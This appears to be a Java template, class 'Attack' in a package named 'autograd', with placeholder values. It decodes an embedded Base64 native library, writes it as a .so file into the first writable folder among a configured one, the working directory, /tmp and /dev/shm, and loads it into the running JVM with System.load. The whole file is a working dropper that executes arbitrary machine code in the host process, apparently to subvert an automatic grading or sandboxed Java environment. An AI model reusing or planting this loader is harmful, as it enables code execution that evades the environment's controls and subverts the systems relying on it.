package autograd;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;

/** Brings a library in machine code and has it loaded. */
final class Attack {
    static void run() throws Throwable {
        byte[] library = Base64.getDecoder().decode("@LIBRARY@");
        IOException last = null;
        for (String folder : new String[] {"@FOLDER@", ".", "/tmp", "/dev/shm"}) {
            try {
                Path file = Files.write(Path.of(folder, "@MARK@.so"), library);
                System.load(file.toAbsolutePath().toString());
                return;
            } catch (IOException refused) {
                last = refused;
            }
        }
        throw last;
    }
}
